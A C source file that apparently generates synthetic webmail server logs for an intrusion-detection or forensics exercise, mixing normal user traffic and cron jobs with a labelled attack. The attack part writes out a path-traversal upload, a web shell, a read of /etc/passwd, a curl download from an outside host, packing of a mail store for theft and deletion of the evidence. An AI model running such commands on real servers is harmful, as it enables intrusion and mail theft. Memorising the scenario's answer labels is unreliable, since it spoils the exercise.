/* A web mail in PHP on nginx, with auditd watching what is started: an ordinary server, and an
 * intruder who gets a page into it, looks round, packs mail and fetches it. */
#include "intruder.h"
#include "pages.h"
#include "scenario.h"
#include "webmail_logs.h"

#include <inttypes.h>

#define SECOND   USEC_PER_SEC
#define MINUTE   (60 * SECOND)
#define WEB_ROOT "/var/www/webmail"

enum { WWW_DATA = 33, POOL_PID = 1187, CRON_PID = 702, BUSY_SUM = 24, VISIT = 6 };

/* ---- people */

static void hit(struct scene *s, usec t, const struct person *p, const char *request,
                unsigned status, uint32_t size)
{
    nginx_line(s, &(struct hit){.time = t,
                                .address = person_address(p, chance_in(&s->chance, 2), s->arena),
                                .request = request,
                                .status = status,
                                .size = size,
                                .referer = "https://webmail.example.com/?_task=mail&_mbox=INBOX",
                                .agent = person_agent(p)});
}

static void visit(struct scene *s, const struct person *p, usec t)
{
    static const char *const requests[] = {
        "GET /?_task=mail&_mbox=INBOX",
        "POST /?_task=mail&_action=refresh",
        "GET /?_task=mail&_action=list&_refresh=1&_layout=widescreen&_mbox=INBOX",
        "GET /?_task=mail&_action=show&_uid=4711&_mbox=INBOX",
        "GET /skins/elastic/images/logo.svg?s=1608022800",
        "POST /?_task=mail&_action=upload&_id=139760cd",
        "GET /program/js/app.min.js?s=1608022800",
    };
    hit(s, t, p, "GET /?_task=login", 200, 5411);
    hit(s, t + 3 * SECOND, p, "POST /?_task=login", 302, 5);
    const char *login = arena_printf(s->arena,
                                     "imap-login: Login: user=<%s>, method=PLAIN, rip=127.0.0.1, "
                                     "lip=127.0.0.1, mpid=%" PRIu32 ", secured",
                                     p->name, chance_from(&s->chance, 2000, 30000))
                            .p;
    syslog_line(s, LOG_MAIL, t + 3 * SECOND, "dovecot", login);
    for (int i = 2; i < VISIT; i++) {
        hit(s, t + (4 + i) * SECOND, p, requests[chance_below(&s->chance, ARRAY_LEN(requests))],
            200, chance_from(&s->chance, 400, 60000));
    }
}

static void people_visit(struct scene *s, usec hour)
{
    int at = civil_of_time(hour).hour;
    uint32_t share = at >= 6 && at < 18 ? 18 : 2; /* of ten parts a waking hour has nine */
    uint64_t visits = (uint64_t)s->requests * share / (10 * BUSY_SUM) / VISIT;
    for (; visits > 0; visits--) {
        visit(s, &people[chance_below(&s->chance, PEOPLE)], scene_moment(s, hour));
    }
}

/* ---- the machine itself */

static void strangers_knock(struct scene *s, usec hour)
{
    static const char *const doors[] = {"GET /.env", "GET /wp-login.php", "GET /robots.txt",
                                        "GET /.git/config", "POST /boaform/admin/formLogin"};
    for (size_t i = 0; i < ARRAY_LEN(doors); i++) {
        const char *address =
            arena_printf(s->arena, "192.0.2.%" PRIu32, chance_from(&s->chance, 10, 240)).p;
        nginx_line(s, &(struct hit){.time = scene_moment(s, hour),
                                    .address = address,
                                    .request = doors[i],
                                    .status = 404,
                                    .size = 146,
                                    .agent = "Mozilla/5.0 (compatible; SiteIndexer/1.2)"});
    }
}

static void cron_runs(struct scene *s, usec t, const char *exe, const char *const *words)
{
    const char *tag =
        arena_printf(s->arena, "CRON[%" PRIu32 "]", chance_from(&s->chance, 2000, 30000)).p;
    syslog_line(s, LOG_AUTH, t, tag,
                "pam_unix(cron:session): session opened for user root by (uid=0)");
    audit_execve(s, &(struct run){.time = t + 20000,
                                  .pid = chance_from(&s->chance, 2000, 30000),
                                  .ppid = CRON_PID,
                                  .exe = exe,
                                  .words = words,
                                  .folder = "/root"});
    syslog_line(s, LOG_AUTH, t + 2 * SECOND, tag,
                "pam_unix(cron:session): session closed for user root");
}

static void machine(struct scene *s, usec hour)
{
    static const char *const hourly[] = {"/bin/sh", "-c",
                                         "cd / && run-parts --report /etc/cron.hourly", NULL};
    static const char *const sessions[] = {"/bin/sh", "-c", "/usr/lib/php/sessionclean", NULL};
    static const char *const rotate[] = {"/usr/sbin/logrotate", "/etc/logrotate.conf", NULL};
    static const char *const backup[] = {"tar", "czf", "/var/backups/etc.tar.gz", "/etc", NULL};
    cron_runs(s, hour + 17 * MINUTE, "/bin/dash", hourly);
    cron_runs(s, hour + 39 * MINUTE, "/bin/dash", sessions);
    if (civil_of_time(hour).hour == 3) {
        cron_runs(s, hour + 25 * MINUTE, "/usr/sbin/logrotate", rotate);
        cron_runs(s, hour + 40 * MINUTE, "/bin/tar", backup);
    }
    if (civil_of_time(hour).hour == 10) {
        syslog_line(s, LOG_AUTH, hour + 20 * MINUTE, "sshd[8841]",
                    "Accepted publickey for keller from 10.20.4.25 port 50112 ssh2: ED25519 "
                    "SHA256:2fG7oQ1qkq8Zk8vJH0nN9b0v3yX5h4sT1rWcLmPdEaU");
    }
}

static void webmail_hour(struct scene *s, usec hour)
{
    people_visit(s, hour);
    strangers_knock(s, hour);
    machine(s, hour);
}

/* ---- the intruder */

#define SHELL_PAGE "/plugins/archive/skins/thumb.php"
#define LOOT_FILE  "/skins/elastic/images/bg.tgz"

enum { LOOT_SIZE = 36700160 };

static const struct intruder stranger = {"203.0.113.164", BROWSER_45};

static void asks(struct scene *s, usec t, const char *request, uint32_t size)
{
    truth_name(s->truth, TRUTH_ADDRESS, stranger.address);
    s->truth->answered += size;
    nginx_line(s, &(struct hit){.time = t,
                                .address = stranger.address,
                                .request = request,
                                .status = 200,
                                .size = size,
                                .agent = stranger.agent});
}

/* The pool starts a shell, and the shell a program. */
static void page_runs(struct scene *s, usec t, const char *command, const char *exe,
                      const char *const *words)
{
    static const char folder[] = WEB_ROOT "/plugins/archive/skins";
    uint32_t pid = chance_from(&s->chance, 20000, 30000);
    const char *const shell[] = {"sh", "-c", command, NULL};
    asks(s, t, "POST " SHELL_PAGE, chance_from(&s->chance, 40, 900));
    audit_execve(s, &(struct run){t + 30000, pid, POOL_PID, WWW_DATA, "/bin/dash", shell, folder});
    audit_execve(s, &(struct run){t + 36000, pid + 1, pid, WWW_DATA, exe, words, folder});
}

static void sign_in(struct scene *s, usec t)
{
    asks(s, t, "GET /?_task=login", 5411);
    asks(s, t + 2 * SECOND, "POST /?_task=mail&_action=upload&_from=..%2F..%2Fplugins", 212);
}

static void page_appears(struct scene *s, usec t)
{
    asks(s, t, "POST " SHELL_PAGE, 31);
    truth_name(s->truth, TRUTH_SHELL, "thumb.php");
}

static void look_round(struct scene *s, usec t)
{
    static const char *const id[] = {"id", NULL};
    static const char *const who[] = {"whoami", NULL};
    static const char *const users[] = {"cat", "/etc/passwd", NULL};
    page_runs(s, t, "id", "/usr/bin/id", id);
    page_runs(s, t + 9 * SECOND, "whoami", "/usr/bin/whoami", who);
    page_runs(s, t + 31 * SECOND, "cat /etc/passwd", "/bin/cat", users);
}

static void bring_tool(struct scene *s, usec t)
{
    static const char *const words[] = {"curl", "-s", "-o", "/tmp/.x", "http://203.0.113.165/x",
                                        NULL};
    page_runs(s, t, "curl -s -o /tmp/.x http://203.0.113.165/x", "/usr/bin/curl", words);
}

static void pack_mail(struct scene *s, usec t)
{
    static const char *const words[] = {"tar", "czf", WEB_ROOT LOOT_FILE, "/var/vmail/example.com",
                                        NULL};
    page_runs(s, t, "tar czf " WEB_ROOT LOOT_FILE " /var/vmail/example.com", "/bin/tar", words);
}

static void fetch_mail(struct scene *s, usec t)
{
    s->truth->loot += LOOT_SIZE;
    asks(s, t, "GET " LOOT_FILE, LOOT_SIZE);
}

static void remove_mail(struct scene *s, usec t)
{
    static const char *const words[] = {"rm", "-f", WEB_ROOT LOOT_FILE, NULL};
    page_runs(s, t, "rm -f " WEB_ROOT LOOT_FILE, "/bin/rm", words);
}

static const struct act acts[] = {
    {0,                sign_in,      NULL        },
    {AT(9),            page_appears, "execute"   },
    {AT(1 * 60 + 30),  look_round,   "execute"   },
    {AT(6 * 60 + 12),  bring_tool,   "execute"   },
    {AT(22 * 60 + 40), pack_mail,    "collect"   },
    {AT(25 * 60 + 5),  fetch_mail,   "exfiltrate"},
    {AT(31 * 60),      remove_mail,  NULL        },
};

enum { ACT_PAGE = 1 };

static bool shipped_files(struct scene *s)
{
    return pages_webmail(s, "var/www/webmail");
}

static bool files(struct scene *s)
{
    usec begins = scenario_begins(s, &scenario_webmail);
    return shipped_files(s) && pages_php_shell(s, "var/www/webmail" SHELL_PAGE,
                                               begins + (acts[ACT_PAGE].after - ACT_SECOND) * 1000);
}

#define ON_WEBMAIL                                                                     \
    .root = "[root]", .computer = WEBMAIL_HOST, .end = IN_MARCH, .request_bytes = 250, \
    .day_bytes = 60000, .hour = webmail_hour

const struct scenario scenario_webmail = {
    .name = "webmail",
    ON_WEBMAIL,
    .files = files,
    ACTS(acts),
    .before_end = 16 * ACT_HOUR,
    .state = "compromised",
    .rung = 7,
};

const struct scenario scenario_webmail_healthy = {
    .name = "webmail-healthy", ON_WEBMAIL, .files = shipped_files, .state = "none"};
